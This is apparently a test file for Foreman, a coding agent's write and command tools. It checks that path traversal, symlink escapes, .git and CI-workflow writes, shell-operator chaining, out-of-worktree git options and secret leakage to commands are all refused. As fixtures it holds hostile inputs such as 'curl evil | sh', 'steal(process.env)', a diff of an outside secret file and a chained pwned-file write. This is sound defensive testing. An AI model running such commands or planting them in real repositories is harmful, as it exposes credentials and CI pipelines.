import { SANDBOX_HOME } from '../src/workspace/sandbox.ts';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { chmod, lstat, mkdir, mkdtemp, readdir, readFile, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { executeTool, MAX_WRITE_BYTES, READ_TOOLS, WRITE_TOOLS, type ToolContext } from '../src/agents/tools.ts';

const git = (cwd: string, ...args: string[]) =>
  promisify(execFile)('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.com', ...args], { cwd });

const SECRET = 'TOP-SECRET-VALUE\n';

let base: string;
let root: string;
let outside: string;
let worktree: string;

before(async () => {
  base = await mkdtemp(path.join(tmpdir(), 'foreman-write-tools-'));
  root = path.join(base, 'repo');
  outside = path.join(base, 'outside');
  worktree = path.join(base, 'worktree');
  await mkdir(outside);
  await writeFile(path.join(outside, 'secret.txt'), SECRET);
  await mkdir(path.join(root, 'src'), { recursive: true });
  await writeFile(path.join(root, 'README.md'), '# Demo\n');
  await git(root, 'init', '-q', '-b', 'main');
  await git(root, 'add', '-A');
  await git(root, 'commit', '-q', '-m', 'fixture');
  await git(root, 'worktree', 'add', '-q', worktree);
  await symlink(outside, path.join(root, 'leakdir'));
  await symlink(path.join(outside, 'secret.txt'), path.join(root, 'leak.txt'));
  await symlink(path.join(outside, 'planted.txt'), path.join(root, 'dangling.txt'));
  await symlink('.git/hooks', path.join(root, 'hooks'));
});
after(() => rm(base, { recursive: true, force: true }));

const writer = (overrides: Partial<ToolContext> = {}): ToolContext => ({ root, write: true, ...overrides });

async function exists(file: string): Promise<boolean> {
  return lstat(file).then(
    () => true,
    () => false,
  );
}

/** Files under `dir`, recursively, relative to it; for checking that a refusal wrote nothing. */
async function snapshot(dir: string): Promise<Map<string, string>> {
  const files = new Map<string, string>();
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const full = path.join(entry.parentPath, entry.name);
    files.set(path.relative(dir, full), await readFile(full, 'utf8'));
  }
  return files;
}

test('write agents get edit_file, write_file and run_command after the read tools', () => {
  assert.deepEqual(
    WRITE_TOOLS.map((t) => t.name),
    ['edit_file', 'write_file', 'run_command'],
  );
  for (const tool of WRITE_TOOLS) assert.equal(tool.input_schema.type, 'object');
  assert.equal(new Set([...READ_TOOLS, ...WRITE_TOOLS].map((t) => t.name)).size, 6);
});

describe('write confinement', () => {
  const refusals: Array<[string, string, Record<string, unknown>, RegExp]> = [
    ['.. out of the root', 'write_file', { path: '../outside/pwned.txt', content: 'x' }, /outside the repository root/],
    ['.. in the middle', 'write_file', { path: 'src/../../outside/pwned.txt', content: 'x' }, /outside the repository root/],
    ['an absolute path', 'write_file', { path: '/tmp/foreman-pwned.txt', content: 'x' }, /absolute path/],
    ['a new file in a symlinked directory out', 'write_file', { path: 'leakdir/pwned.txt', content: 'x' }, /symbolic link that leads outside/],
    ['new directories below a symlinked directory out', 'write_file', { path: 'leakdir/a/b/pwned.txt', content: 'x' }, /symbolic link that leads outside/],
    ['writing through a symlink file out', 'write_file', { path: 'leak.txt', content: 'pwned' }, /symbolic link that leads outside/],
    ['editing through a symlink file out', 'edit_file', { path: 'leak.txt', old_string: 'TOP', new_string: 'PWNED' }, /symbolic link that leads outside/],
    ['editing through a symlinked directory out', 'edit_file', { path: 'leakdir/secret.txt', old_string: 'TOP', new_string: 'PWNED' }, /symbolic link that leads outside/],
    ['writing through a dangling symlink', 'write_file', { path: 'dangling.txt', content: 'x' }, /symbolic link to a missing target/],
    ['.git/config', 'write_file', { path: '.git/config', content: '[core]\n' }, /inside \.git/],
    ['a new hook in .git', 'write_file', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\n' }, /inside \.git/],
    ['editing .git/HEAD', 'edit_file', { path: '.git/HEAD', old_string: 'main', new_string: 'evil' }, /inside \.git/],
    ['a .git directory further down', 'write_file', { path: 'src/.git/config', content: 'x' }, /inside \.git/],
    ['.GIT, the same directory on case-insensitive file systems', 'write_file', { path: '.GIT/config', content: 'x' }, /inside \.git/],
    ['a symlink into .git', 'write_file', { path: 'hooks/post-checkout', content: '#!/bin/sh\n' }, /inside \.git/],
  ];
  for (const [what, tool, input, message] of refusals) {
    test(`refuses ${what} as a tool error, writing nothing`, async () => {
      const [beforeRoot, beforeOutside] = [await snapshot(root), await snapshot(outside)];
      const result = await executeTool(tool, input, writer());
      assert.equal(result.isError, true, result.output);
      assert.match(result.output, message);
      assert.deepEqual(await snapshot(outside), beforeOutside);
      assert.deepEqual(await snapshot(root), beforeRoot);
      assert.equal(await exists(path.join(outside, 'a')), false);
      assert.equal(await exists('/tmp/foreman-pwned.txt'), false);
    });
  }

  test('refuses the .git file of a worktree', async () => {
    const gitFile = path.join(worktree, '.git');
    const before = await readFile(gitFile, 'utf8');
    assert.match(before, /^gitdir: /, 'a worktree has a .git file');
    for (const call of [
      { tool: 'write_file', input: { path: '.git', content: 'gitdir: /tmp/elsewhere\n' } },
      { tool: 'edit_file', input: { path: '.git', old_string: 'gitdir', new_string: 'nope' } },
    ]) {
      const result = await executeTool(call.tool, call.input, writer({ root: worktree }));
      assert.equal(result.isError, true, result.output);
      assert.match(result.output, /inside \.git/);
    }
    assert.equal(await readFile(gitFile, 'utf8'), before);
  });

  test('refuses content over the size cap with the limit in the message', async () => {
    const result = await executeTool('write_file', { path: 'big.txt', content: 'x'.repeat(MAX_WRITE_BYTES + 1) }, writer());
    assert.equal(result.isError, true);
    assert.match(result.output, /content is 1000001 bytes, more than the 1 MB \(1000000 bytes\) the write tools accept/);
    assert.equal(await exists(path.join(root, 'big.txt')), false);
    const edit = await executeTool('edit_file', { path: 'README.md', old_string: '# Demo', new_string: 'y'.repeat(MAX_WRITE_BYTES + 1) }, writer());
    assert.equal(edit.isError, true);
    assert.match(edit.output, /new_string is 1000001 bytes, more than the 1 MB/);
    assert.equal(await readFile(path.join(root, 'README.md'), 'utf8'), '# Demo\n');
  });

  test('a symlink that stays inside the root is written through to its target', async () => {
    await writeFile(path.join(root, 'src/target.ts'), 'old\n');
    await symlink('src/target.ts', path.join(root, 'alias.ts'));
    const result = await executeTool('write_file', { path: 'alias.ts', content: 'new\n' }, writer());
    assert.equal(result.isError, false, result.output);
    assert.equal(await readFile(path.join(root, 'src/target.ts'), 'utf8'), 'new\n');
    assert.ok((await lstat(path.join(root, 'alias.ts'))).isSymbolicLink(), 'the link itself is left alone');
  });

  test('read-only agents may not use the write tools at all', async () => {
    for (const [tool, input] of [
      ['edit_file', { path: 'README.md', old_string: '# Demo', new_string: '# Changed' }],
      ['write_file', { path: 'new.txt', content: 'x' }],
      ['run_command', { command: 'node -e 1' }],
    ] as const) {
      const result = await executeTool(tool, input, { root, commands: ['node -e *'] });
      assert.equal(result.isError, true);
      assert.match(result.output, new RegExp(`${tool} is not available: this agent is read-only`));
      assert.match(result.output, /Available tools: list_files, read_file, search$/);
    }
    assert.equal(await readFile(path.join(root, 'README.md'), 'utf8'), '# Demo\n');
    assert.equal(await exists(path.join(root, 'new.txt')), false);
  });
});

describe('edit_file', () => {
  const file = () => path.join(root, 'src/edit.ts');
  const edit = (input: Record<string, unknown>) => executeTool('edit_file', { path: 'src/edit.ts', ...input }, writer());

  test('replaces a unique string and says where', async () => {
    await writeFile(file(), 'const a = 1;\nconst b = 2;\nconst c = 3;\n');
    const result = await edit({ old_string: 'const b = 2;', new_string: 'const b = 20;' });
    assert.deepEqual(result, { output: 'Edited src/edit.ts: replaced 1 occurrence at line 2.', isError: false });
    assert.equal(await readFile(file(), 'utf8'), 'const a = 1;\nconst b = 20;\nconst c = 3;\n');
  });

  test('an ambiguous string is refused with the count, and the file is untouched', async () => {
    const original = 'x = 1;\ny = 2;\nx = 1;\nx = 1;\n';
    await writeFile(file(), original);
    const result = await edit({ old_string: 'x = 1;', new_string: 'x = 9;' });
    assert.equal(result.isError, true);
    assert.match(result.output, /occurs 3 times in "src\/edit\.ts" \(lines 1, 3, 4\)/);
    assert.match(result.output, /set replace_all to true/);
    assert.equal(await readFile(file(), 'utf8'), original);
  });

  test('replace_all replaces every occurrence', async () => {
    await writeFile(file(), 'x = 1;\ny = 2;\nx = 1;\nx = 1;\n');
    const result = await edit({ old_string: 'x = 1;', new_string: 'x = 9;', replace_all: true });
    assert.deepEqual(result, { output: 'Edited src/edit.ts: replaced 3 occurrences (lines 1, 3, 4).', isError: false });
    assert.equal(await readFile(file(), 'utf8'), 'x = 9;\ny = 2;\nx = 9;\nx = 9;\n');
  });

  test('a string that is not there is refused with how to find the right one', async () => {
    await writeFile(file(), 'function f() {\n  return 1;\n}\n');
    const result = await edit({ old_string: 'return 2;', new_string: 'return 3;' });
    assert.equal(result.isError, true);
    assert.match(result.output, /old_string was not found in "src\/edit\.ts".*read the file again/);
    const numbered = await edit({ old_string: '     2\t  return 1;', new_string: '  return 3;' });
    assert.match(numbered.output, /line-number prefixes/);
    assert.equal(await readFile(file(), 'utf8'), 'function f() {\n  return 1;\n}\n');
  });

  test('identical strings, an empty old_string and a missing file are tool errors that point the way', async () => {
    await writeFile(file(), 'a\n');
    const cases: Array<[Record<string, unknown>, RegExp]> = [
      [{ old_string: 'a', new_string: 'a' }, /identical/],
      [{ old_string: '', new_string: 'b' }, /must not be empty; .*use write_file/],
      [{ path: 'src/missing.ts', old_string: 'a', new_string: 'b' }, /no such file: "src\/missing\.ts"; to create it, use write_file/],
      [{ path: 'src', old_string: 'a', new_string: 'b' }, /is a directory/],
      [{ old_string: 'a', new_string: 7 }, /"new_string" must be a string/],
      [{ old_string: 'a', new_string: 'b', replace_all: 'yes' }, /"replace_all" must be true or false/],
    ];
    for (const [input, message] of cases) {
      const result = await edit(input);
      assert.equal(result.isError, true, JSON.stringify(input));
      assert.match(result.output, message);
    }
    assert.equal(await readFile(file(), 'utf8'), 'a\n');
  });

  test('new_string is literal text: $& and $1 are not replacement patterns', async () => {
    await writeFile(file(), 'price = X;\n');
    await edit({ old_string: 'X', new_string: "'$&$1$$'" });
    assert.equal(await readFile(file(), 'utf8'), "price = '$&$1$$';\n");
    await writeFile(file(), 'X + X\n');
    await edit({ old_string: 'X', new_string: '$&$$', replace_all: true });
    assert.equal(await readFile(file(), 'utf8'), '$&$$ + $&$$\n');
  });

  test('keeps CRLF line endings when old_string spans lines with \\n', async () => {
    await writeFile(file(), 'one\r\ntwo\r\nthree\r\n');
    const result = await edit({ old_string: 'one\ntwo', new_string: 'one\n2' });
    assert.equal(result.isError, false, result.output);
    assert.equal(await readFile(file(), 'utf8'), 'one\r\n2\r\nthree\r\n');
  });

  test('keeps the file mode, so scripts stay executable, and leaves no temporary files', async () => {
    const script = path.join(root, 'src/run.sh');
    await writeFile(script, '#!/bin/sh\necho old\n');
    await chmod(script, 0o755);
    const result = await executeTool('edit_file', { path: 'src/run.sh', old_string: 'old', new_string: 'new' }, writer());
    assert.equal(result.isError, false, result.output);
    assert.equal((await stat(script)).mode & 0o777, 0o755);
    assert.deepEqual((await readdir(path.join(root, 'src'))).filter((name) => name.includes('foreman')), []);
  });

  test('binary and non-UTF-8 files are refused untouched', async () => {
    const blob = path.join(root, 'src/blob.bin');
    await writeFile(blob, Buffer.from([0x61, 0x00, 0x62]));
    assert.match((await executeTool('edit_file', { path: 'src/blob.bin', old_string: 'a', new_string: 'c' }, writer())).output, /binary file/);
    const latin1 = path.join(root, 'src/latin1.txt');
    await writeFile(latin1, Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]));
    const result = await executeTool('edit_file', { path: 'src/latin1.txt', old_string: 'ca', new_string: 'CA' }, writer());
    assert.match(result.output, /not valid UTF-8.*use write_file/);
    assert.deepEqual(await readFile(latin1), Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]));
  });
});

describe('write_file', () => {
  test('creates missing parent directories', async () => {
    const result = await executeTool('write_file', { path: 'docs/guide/intro.md', content: '# Intro\nHello.\n' }, writer());
    assert.deepEqual(result, { output: 'Created docs/guide/intro.md (2 lines, 15 bytes).', isError: false });
    assert.equal(await readFile(path.join(root, 'docs/guide/intro.md'), 'utf8'), '# Intro\nHello.\n');
  });

  test('overwrites an existing file', async () => {
    await writeFile(path.join(root, 'src/over.ts'), 'a much longer original content\n');
    const result = await executeTool('write_file', { path: 'src/over.ts', content: 'short\n' }, writer());
    assert.deepEqual(result, { output: 'Overwrote src/over.ts (1 line, 6 bytes).', isError: false });
    assert.equal(await readFile(path.join(root, 'src/over.ts'), 'utf8'), 'short\n');
  });

  test('directories and files in the way are tool errors', async () => {
    const cases: Array<[string, RegExp]> = [
      ['src', /"src" is a directory; give the path of a file/],
      ['src/', /ends with a slash/],
      ['README.md/inner.txt', /"README\.md" is a file, so "README\.md\/inner\.txt" cannot be created below it/],
      ['', /is a directory/],
    ];
    for (const [target, message] of cases) {
      const result = await executeTool('write_file', { path: target, content: 'x' }, writer());
      assert.equal(result.isError, true, target);
      assert.match(result.output, message);
    }
    assert.equal(await readFile(path.join(root, 'README.md'), 'utf8'), '# Demo\n');
  });
});

describe('run_command', () => {
  const run = (command: string, overrides: Partial<ToolContext> = {}) =>
    executeTool('run_command', { command }, writer({ commands: ['node -e *', 'npm test'], ...overrides }));

  test('runs an allowed command in the root and returns its exit code and output', async () => {
    const result = await run(`node -e "console.log(process.cwd()); console.error('to stderr'); process.exit(3)"`);
    assert.equal(result.isError, false, 'a failing command is information, not a tool error');
    const [status, ...output] = result.output.split('\n');
    assert.match(status, /^Exit code 3 \(\d+\.\d s\)\.$/);
    assert.equal(output[0], await realpath(root));
    assert.match(result.output, /to stderr/);
  });

  test('a command that is not listed is refused with the allowed list and where it is set', async () => {
    const result = await run('npm publish');
    assert.equal(result.isError, true);
    assert.match(result.output, /^"npm publish" is not an allowed command\. Allowed commands: "node -e \*", "npm test"/);
    assert.match(result.output, /\.github\/foreman\.yml/);
    assert.match(result.output, /agents\.commands/);

    // agents.commands: [] allows nothing; an absent list allows any command line (below).
    const none = await executeTool('run_command', { command: 'npm test' }, writer({ commands: [] }));
    assert.equal(none.isError, true);
    assert.match(none.output, /No commands are allowed here.*agents\.commands/);
  });

  test('without agents.commands, any command line runs through sh in the sandbox, which confines it', async () => {
    const piped = await executeTool('run_command', { command: `echo one two | tr ' ' '\\n' | wc -l && touch made-here` }, writer());
    assert.equal(piped.isError, false, piped.output);
    assert.match(piped.output, /^Exit code 0 .*\n\s*2\n/);
    assert.equal(await exists(path.join(root, 'made-here')), true, 'the root is writable');
    const escape = await executeTool('run_command', { command: `echo x > ${path.join(outside, 'escaped.txt')}` }, writer());
    assert.match(escape.output, /^Exit code [1-9]/, escape.output);
    assert.equal(await exists(path.join(outside, 'escaped.txt')), false, 'nothing outside the root is writable');
    const unavailable = await executeTool('run_command', { command: 'echo hi' }, writer({ sandbox: { kind: 'unavailable', reason: 'bwrap is missing', fix: 'install it' } }));
    assert.match(unavailable.output, /was not run: the sandbox is unavailable: bwrap is missing; install it/);
  });

  test('shell operators are refused before anything runs', async () => {
    for (const command of [`node -e "1" && node -e "require('fs').writeFileSync('pwned','x')"`, 'node -e 1 > pwned', 'node -e 1 | cat', 'A=1 npm test']) {
      const result = await run(command);
      assert.equal(result.isError, true, command);
      assert.match(result.output, /no shell/, command);
      assert.match(result.output, /Allowed commands: "node -e \*"/);
    }
    assert.equal(await exists(path.join(root, 'pwned')), false);
  });

  test("an allowed 'git diff **' cannot read or write outside the worktree", async () => {
    const gitDiff = { commands: ['git diff **', 'git grep **', 'git **'] };
    const target = path.join(outside, 'written.txt');
    for (const command of [
      `git diff --no-index /dev/null ${path.join(outside, 'secret.txt')}`,
      `git diff --no-ind /dev/null ${path.join(outside, 'secret.txt')}`,
      `git diff --output=${target} HEAD`,
      `git diff --outp=${target} HEAD`,
      `git diff --ext-diff HEAD`,
      `git -C ${outside} diff`,
      `git --git-dir=${outside} diff`,
      `git grep -O${target} x`,
    ]) {
      const result = await run(command, gitDiff);
      assert.equal(result.isError, true, command);
      assert.match(result.output, /is refused: .*outside the worktree|is refused: git's own options/, command);
      assert.match(result.output, /drop that option|give the subcommand first/, command);
      assert.doesNotMatch(result.output, /TOP-SECRET/);
    }
    assert.equal(await exists(target), false);
    // What the pattern is for still runs.
    const diff = await run('git diff --stat HEAD', gitDiff);
    assert.equal(diff.isError, false, diff.output);
    assert.match(diff.output, /^Exit code 0/);
  });

  test('the command does not see the API key or the GitHub token', async () => {
    const saved = { ANTHROPIC_API_KEY: process.env.ANTHROPIC_API_KEY, GITHUB_TOKEN: process.env.GITHUB_TOKEN };
    process.env.ANTHROPIC_API_KEY = 'sk-ant-test-DO-NOT-LEAK';
    process.env.GITHUB_TOKEN = 'ghs_DO_NOT_LEAK';
    try {
      // The doors hand run_command their environment; below them nothing reads process.env.
      const result = await run('node -e "console.log(JSON.stringify(process.env))"', { commandEnv: process.env });
      assert.equal(result.isError, false, result.output);
      const env = JSON.parse(result.output.split('\n')[1]) as Record<string, string>;
      assert.ok(env.PATH, 'the rest of the environment is kept');
      assert.equal(env.ANTHROPIC_API_KEY, undefined);
      assert.equal(env.GITHUB_TOKEN, undefined);
      assert.doesNotMatch(result.output, /DO[-_]NOT[-_]LEAK/);
    } finally {
      for (const [name, value] of Object.entries(saved)) {
        if (value === undefined) delete process.env[name];
        else process.env[name] = value;
      }
    }
  });

  test('the command does not see credentials inside values, nor a copy of a secret Foreman holds', async () => {
    const commandEnv = {
      PATH: process.env.PATH,
      DATABASE_URL: 'postgres://app:pa55word@db/app',
      HTTP_PROXY: 'http://u:proxypass@proxy:8080',
      COPIED: 'ghs_HELD_INSTALLATION_TOKEN',
      PLAIN: 'https://example.com/',
    };
    const result = await run('node -e "console.log(JSON.stringify(process.env))"', { commandEnv, commandSecrets: ['ghs_HELD_INSTALLATION_TOKEN'] });
    assert.equal(result.isError, false, result.output);
    const env = JSON.parse(result.output.split('\n')[1]) as Record<string, string>;
    assert.equal(env.PLAIN, 'https://example.com/');
    assert.deepEqual([env.DATABASE_URL, env.HTTP_PROXY, env.COPIED], [undefined, undefined, undefined]);
    assert.doesNotMatch(result.output, /pa55word|proxypass|HELD/);
  });

  test("an agent type's Bash(pattern) rules restrict run_command even where agents.commands is unset", async () => {
    const refused = await run('touch made-by-agent', { commands: undefined, typeCommands: ['git log **'] });
    assert.equal(refused.isError, true);
    assert.match(refused.output, /"touch made-by-agent" is not an allowed command\. Allowed commands: "git log \*\*".*agent's type/);
    const allowed = await run('git log --oneline -1', { commands: undefined, typeCommands: ['git log **'] });
    assert.equal(allowed.isError, false, allowed.output);
    // Both lists apply where both are set.
    const both = await run('git log --oneline -1', { commands: ['npm test'], typeCommands: ['git log **'] });
    assert.equal(both.isError, true);
  });

  test('a secret Foreman comes to hold during the run (a rotated token) is removed from later commands', async () => {
    const commandEnv = { PATH: process.env.PATH, COPIED: 'ghs_SECOND_INSTALLATION_TOKEN' };
    const held = new Set(['ghs_FIRST_INSTALLATION_TOKEN']);
    const before = await run('node -e "console.log(JSON.stringify(process.env))"', { commandEnv, commandSecrets: held });
    assert.equal(JSON.parse(before.output.split('\n')[1]).COPIED, 'ghs_SECOND_INSTALLATION_TOKEN', 'not yet a secret Foreman holds');
    held.add('ghs_SECOND_INSTALLATION_TOKEN');
    const after = await run('node -e "console.log(JSON.stringify(process.env))"', { commandEnv, commandSecrets: held });
    assert.equal(JSON.parse(after.output.split('\n')[1]).COPIED, undefined);
  });

  test('a given environment replaces process.env, and is cleaned too', async () => {
    const commandEnv = { PATH: process.env.PATH, MARK: 'from-commandEnv', ANTHROPIC_API_KEY: 'sk-ant-given-DO-NOT-LEAK' };
    const result = await run('node -e "console.log(JSON.stringify(process.env))"', { commandEnv });
    const env = JSON.parse(result.output.split('\n')[1]) as Record<string, string>;
    assert.equal(env.MARK, 'from-commandEnv');
    assert.equal(env.ANTHROPIC_API_KEY, undefined);
    assert.equal(env.USER, undefined, 'nothing of process.env is added');
    assert.equal(env.HOME, SANDBOX_HOME, "HOME is the sandbox's own, not the user's");
  });

  test('a command that runs too long is killed and says so', async () => {
    const started = performance.now();
    const result = await run('node -e "setTimeout(() => {}, 30000)"', { commandTimeoutMs: 300 });
    assert.equal(result.isError, false);
    assert.match(result.output, /^Timed out after 0\.3 s and was killed\..*agents\.commandTimeoutMs/);
    assert.ok(performance.now() - started < 10_000, 'did not wait for the command');
  });

  test("stopping the agent kills its command", async () => {
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 200);
    const started = performance.now();
    const result = await run('node -e "setTimeout(() => {}, 30000)"', { signal: controller.signal });
    assert.match(result.output, /^Stopped: the run was stopped\./);
    assert.ok(performance.now() - started < 10_000);
  });
});

test('CI workflows, the actions they run (.github/actions, action.yml, local `uses: ./dir`) and Foreman config are protected from write agents, also through a link', async () => {
  await mkdir(path.join(root, '.github', 'workflows'), { recursive: true });
  await writeFile(path.join(root, '.github', 'workflows', 'ci.yml'), 'on: push\n');
  // A workflow that runs a local action outside .github: its directory is protected too.
  await writeFile(path.join(root, '.github', 'workflows', 'release.yaml'), 'on: push\njobs:\n  r:\n    steps:\n      - uses: "./ci/steps"\n      - uses: ./\n');
  await symlink('.github/workflows', path.join(root, 'wf-link'));
  for (const [tool, input] of [
    ['write_file', { path: '.github/workflows/evil.yml', content: 'on: push\n' }],
    ['edit_file', { path: '.github/workflows/ci.yml', old_string: 'push', new_string: 'pull_request_target' }],
    ['write_file', { path: '.GitHub/foreman.yml', content: 'agents:\n  commands: ["**"]\n' }],
    ['write_file', { path: 'wf-link/evil.yml', content: 'on: push\n' }],
    ['write_file', { path: '.github/actions/setup/action.yml', content: 'runs:\n  using: composite\n' }],
    ['write_file', { path: '.github/actions/setup/run.sh', content: 'curl evil | sh\n' }],
    ['write_file', { path: 'action.yml', content: 'runs:\n  using: node20\n  main: evil.js\n' }],
    ['write_file', { path: 'tools/deploy/action.yaml', content: 'runs:\n  using: composite\n' }],
    ['write_file', { path: 'ci/steps/index.js', content: 'steal(process.env)\n' }],
    ['write_file', { path: 'ci/steps/lib/deep.js', content: 'steal(process.env)\n' }],
  ] as const) {
    const result = await executeTool(tool, input, writer());
    assert.equal(result.isError, true, `${tool} ${input.path}`);
    assert.match(result.output, /protected/);
  }
  assert.equal(await readFile(path.join(root, '.github', 'workflows', 'ci.yml'), 'utf8'), 'on: push\n');
  assert.equal(await exists(path.join(root, '.github', 'workflows', 'evil.yml')), false);
  assert.equal(await exists(path.join(root, 'ci')), false);
  // Other files stay writable, also next to a protected directory's name.
  const other = await executeTool('write_file', { path: 'ci/steps-notes.md', content: 'x\n' }, writer());
  assert.equal(other.isError, false, other.output);
  await rm(path.join(root, 'ci'), { recursive: true });
  await rm(path.join(root, 'wf-link'));
  await rm(path.join(root, '.github'), { recursive: true });
});
